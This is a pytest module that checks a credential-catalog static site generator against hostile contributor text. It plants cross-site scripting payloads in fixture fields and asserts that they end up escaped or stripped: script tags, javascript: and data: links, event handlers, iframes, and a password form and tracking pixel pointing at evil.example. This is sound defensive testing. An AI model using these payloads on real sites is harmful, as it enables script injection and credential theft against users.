"""Hostile contributor text never reaches a built site as markup (one small fixture build).

Every plain-text field of the fixture carries markup that would close the element it
sits in and run a script; every markdown case gets a credential of its own, so each
case is checked on its own page. One module-scoped build serves all tests.
"""

from __future__ import annotations

import gzip
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from conftest import SITE_NAME, run_build
from output_scan import DATA_SCRIPT_TYPES, MARKER, dangers_in_file, dangers_in_site, raw_text
from site_html import Element, load_page

TITLE = f'</title></script><script>alert("{MARKER}")</script> & "quotes"'
MARKDOWN = (
    f'<script>alert("{MARKER}")</script>\n\n'
    f'[click](javascript:alert("{MARKER}")) <img src=x onerror="alert(1)">\n\n'
    f'<iframe src="https://evil.example/{MARKER}"></iframe>'
)


def hostile(field: str) -> str:
    return f'{field} </title></script><script>alert("{MARKER}")</script><img src=x onerror=alert(1)> & "q" \'a\''


SUMMARY, ISSUER_NAME, SCALE_LABEL, PROMPT, CITATION, RESOURCE = (
    hostile(f) for f in ("Summary", "Issuer", "Label", "Prompt", "Citation", "Resource"))
# (line of the minimal credential or issuer, what replaces it)
CREDENTIAL_EDITS = (
    ("title: Exit Tickets", f"title: {json.dumps(TITLE)}"),
    ("summary: Use exit tickets to check understanding at the end of a lesson.", f"summary: {json.dumps(SUMMARY)}"),
    ("supporting_rationale: Formative assessment improves learning.", f"supporting_rationale: {json.dumps(MARKDOWN)}"),
    ("instructions: Describe your class.", f"instructions: {json.dumps(MARKDOWN)}"),
    ('{id: meets, label: "Yes", passing: true}', f"{{id: meets, label: {json.dumps(SCALE_LABEL)}, passing: true}}"),
    ("prompt: Describe your classroom context.", f"prompt: {json.dumps(PROMPT)}"),
    ('citation: "Black, P., & Wiliam, D. (1998). Assessment and classroom learning."', f"citation: {json.dumps(CITATION)}"),
    ("  - title: Exit tickets", f"  - title: {json.dumps(RESOURCE)}"),
)
ISSUER_EDITS = (
    ("name: Acme Learning", f"name: {json.dumps(ISSUER_NAME)}"),
    ("description: Acme Learning issues **test** micro-credentials.", f"description: {json.dumps(MARKDOWN)}"),
)

# Markdown case (also its credential's id) -> (supporting_rationale, the text a reader still sees).
MARKDOWN_CASES = {
    "javascript-link": (f'[js link](javascript:alert("{MARKER}"))', "js link"),
    "javascript-autolink": (f"<javascript:alert('{MARKER}')>", "javascript:alert"),
    "data-link": ("[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "data link"),
    "vbscript-link": (f'[vb link](vbscript:msgbox("{MARKER}"))', "vb link"),
    "relative-link": (f"[relative link]({MARKER}.html)", "relative link"),
    "root-relative-link": (f"[root link](/{MARKER}/)", "root link"),
    "protocol-relative-link": (f"[elsewhere link](//evil.example/{MARKER})", "elsewhere link"),
    "script-element": (f'<script>alert("{MARKER}")</script>\n\nafter the script', "after the script"),
    "style-element": (f"<style>*{{background:url(https://evil.example/{MARKER})}}</style>\n\nafter the style", "after the style"),
    "form": (f'<form action="https://evil.example/{MARKER}"><input name="password"></form>\n\nafter the form', "after the form"),
    "iframe": (f'<iframe src="https://evil.example/{MARKER}"></iframe>\n\nafter the frame', "after the frame"),
    "svg-onload": (f"<svg onload=\"alert('{MARKER}')\"><circle r=\"9\"/></svg>\n\nafter the drawing", "after the drawing"),
    "img-onerror": (f"text <img src=x onerror=\"alert('{MARKER}')\"> around", "text around"),
    "markdown-image": (f"![tracking pixel](https://evil.example/{MARKER}.png) beside", "beside"),
    "onclick-attribute": (f"<a href=\"https://ok.example/\" onclick=\"alert('{MARKER}')\">click me</a> inline", "click me inline"),
    "onmouseover-attribute": (f"<p onmouseover=\"alert('{MARKER}')\">hover me</p>\n\nafter the paragraph", "after the paragraph"),
    "absolute-link": ("[ok link](https://ok.example/) and [mail link](mailto:a@ok.example)", "ok link and mail link"),
}
NOT_ABSOLUTE_LINKS = [case for case in MARKDOWN_CASES if case.endswith("-link") and case != "absolute-link"]
ALLOWED_IN_MARKDOWN = {
    "p", "br", "hr", "a", "em", "strong", "del", "code", "pre", "blockquote",
    "ul", "ol", "li", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
}


def _edited(text: str, edits) -> str:
    for old, new in edits:
        assert old in text, old
        text = text.replace(old, new, 1)
    return text


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    from conftest import FIXTURES, make_project

    root = make_project(tmp_path_factory.mktemp("hostile") / "project", FIXTURES / "minimal")
    credentials = root / "catalog/acme/credentials"
    clean = (credentials / "exit-tickets.yml").read_text(encoding="utf-8")
    (credentials / "exit-tickets.yml").write_text(_edited(clean, CREDENTIAL_EDITS), encoding="utf-8")
    for case, (markdown, _) in MARKDOWN_CASES.items():
        edits = (("title: Exit Tickets", f"title: Markdown case {case}"),
                 ("supporting_rationale: Formative assessment improves learning.", f"supporting_rationale: {json.dumps(markdown)}"))
        (credentials / f"{case}.yml").write_text(_edited(clean, edits), encoding="utf-8")
    issuer = root / "catalog/acme/issuer.yml"
    issuer.write_text(_edited(issuer.read_text(encoding="utf-8"), ISSUER_EDITS), encoding="utf-8")
    pathway = root / "catalog/acme/pathways/assessment-basics.yml"
    pathway.write_text(_edited(pathway.read_text(encoding="utf-8"), (
        ("description: For teachers starting with formative assessment.", f"description: {json.dumps(MARKDOWN)}"),
    )), encoding="utf-8")
    result = run_build(root)
    assert result.returncode == 0, result.stderr
    return root / "site"


# --- every generated file -------------------------------------------------------------

def test_no_generated_file_carries_active_markup_from_contributor_text(hostile_site):
    built = {f.parent.name for f in (hostile_site / "credentials").glob("*/index.html")}
    assert {*MARKDOWN_CASES, "exit-tickets"} <= built  # every hostile credential was built, so scanned
    assert dangers_in_site(hostile_site) == {}


def test_the_scan_sees_an_injected_element_in_every_kind_of_file(tmp_path):
    """The scan above would find what it looks for: one injected file of each kind."""
    injected = {
        "page.html": "<p onmouseover='x()'>hi</p>",
        "badge.svg": f'<svg><image href="https://evil.example/{MARKER}"/></svg>',
        "api.json": json.dumps({"description": {"markdown": "x", "html": "<iframe src=x></iframe>"}}),
        "feed.xml": '<feed xmlns="http://www.w3.org/2005/Atom"><summary type="html">&lt;a href="javascript:x"&gt;</summary></feed>',
        "search.js": f"var title = '{MARKER}';",
        "page.webmanifest": "{}",
    }
    for name, text in injected.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
        assert dangers_in_file(tmp_path / name), name


# --- markdown fields ------------------------------------------------------------------


def rationale(site: Path, credential: str) -> Element:
    page = load_page(site, f"credentials/{credential}/")
    return page.main.find("section", **{"aria-labelledby": "rationale"}).find(class_="mc-markdown")


@pytest.mark.parametrize("case", MARKDOWN_CASES)
def test_markdown_case_keeps_its_text_but_only_safe_markup(hostile_site, case):
    rendered = rationale(hostile_site, case)
    assert MARKDOWN_CASES[case][1] in rendered.text()
    assert {el.tag for el in rendered.iter()} <= ALLOWED_IN_MARKDOWN
    assert not [(el.tag, a) for el in rendered.iter() for a in el.attrs if a not in {"href", "title", "rel", "start"}]


@pytest.mark.parametrize("case", NOT_ABSOLUTE_LINKS)
def test_markdown_link_that_is_not_absolute_http_or_mailto_loses_its_href(hostile_site, case):
    links = rationale(hostile_site, case).find_all("a")
    assert links and all("href" not in a.attrs for a in links)


def test_absolute_link_in_markdown_keeps_its_href(hostile_site):
    links = rationale(hostile_site, "absolute-link").find_all("a")
    assert [a.attrs["href"] for a in links] == ["https://ok.example/", "mailto:a@ok.example"]


def test_markdown_field_keeps_its_text_but_loses_the_markup(hostile_site):
    rendered = rationale(hostile_site, "exit-tickets")
    assert "click" in rendered.text()
    assert not [a for a in rendered.find_all("a") if "href" in a.attrs]
    assert {el.tag for el in rendered.iter()} <= ALLOWED_IN_MARKDOWN


# --- plain-text fields ----------------------------------------------------------------


def test_hostile_title_is_plain_text_in_title_meta_h1_and_jsonld(hostile_site):
    page = load_page(hostile_site, "credentials/exit-tickets/")
    assert page.title == f"{TITLE} - {SITE_NAME}"
    assert page.meta("og:title") == TITLE
    assert page.h1s() == [TITLE]
    assert page.jsonld()["name"] == TITLE
    header = page.dom.find(class_="md-header__topic", **{"data-md-component": "header-topic"})
    assert header.text() == TITLE


def test_hostile_summary_is_plain_text_in_meta_tags_page_and_jsonld(hostile_site):
    page = load_page(hostile_site, "credentials/exit-tickets/")
    assert page.meta("description") == page.meta("og:description") == SUMMARY
    assert page.main.find("p", class_="mc-lead").text() == SUMMARY
    assert page.jsonld()["description"] == SUMMARY


@pytest.mark.parametrize("text", [SCALE_LABEL, PROMPT, CITATION, RESOURCE, ISSUER_NAME],
                         ids=["scale label", "criterion prompt", "research citation", "resource title", "issuer name"])
def test_hostile_text_reads_as_written_on_the_credential_page(hostile_site, text):
    page = load_page(hostile_site, "credentials/exit-tickets/")
    assert text in page.main.text()


def test_hostile_issuer_name_is_plain_text_on_its_page_and_in_jsonld(hostile_site):
    page = load_page(hostile_site, "issuers/acme/")
    assert page.title == f"{ISSUER_NAME} - {SITE_NAME}"
    assert page.h1s() == [ISSUER_NAME]
    assert page.jsonld()["name"] == ISSUER_NAME


def test_hostile_text_stays_text_on_every_page_that_lists_it(hostile_site):
    for path in ("credentials/exit-tickets/", "pathways/assessment-basics/", "issuers/acme/", "catalog/", ""):
        page = load_page(hostile_site, path)
        assert "</title></script><script>" not in page.html and "<img src=x" not in page.html, path
        assert not [s for s in page.dom.find_all("script") if MARKER in raw_text(s) and s.attrs.get("type") not in DATA_SCRIPT_TYPES], path


def test_hostile_text_is_plain_text_in_the_feed(hostile_site):
    atom = "{http://www.w3.org/2005/Atom}"
    feed = ET.parse(hostile_site / "feed.xml").getroot()
    (entry,) = [e for e in feed.iter(f"{atom}entry") if e.findtext(f"{atom}id", "").endswith("/credentials/exit-tickets/")]
    assert entry.findtext(f"{atom}title") == TITLE and entry.find(f"{atom}title").get("type", "text") == "text"
    assert entry.findtext(f"{atom}summary") == SUMMARY and entry.find(f"{atom}summary").get("type", "text") == "text"
    assert entry.findtext(f"{atom}author/{atom}name") == ISSUER_NAME


def test_hostile_text_is_kept_as_written_in_the_search_index_record(hostile_site):
    records = [gzip.decompress(f.read_bytes()) for f in (hostile_site / "pagefind/fragment").glob("*.pf_fragment")]
    metas = [json.loads(r[r.index(b"{"):])["meta"] for r in records]
    (meta,) = [m for m in metas if m.get("id") == "exit-tickets"]
    assert meta["title"] == TITLE


def test_hostile_text_is_kept_as_written_in_the_json_api(hostile_site):
    api = json.loads((hostile_site / "api/v1/credentials/exit-tickets.json").read_text(encoding="utf-8"))
    credential = api["credential"]
    assert (credential["title"], credential["summary"], api["issuer"]["name"]) == (TITLE, SUMMARY, ISSUER_NAME)
    assert credential["submission"]["parts"][0]["criteria"][0]["prompt"] == PROMPT
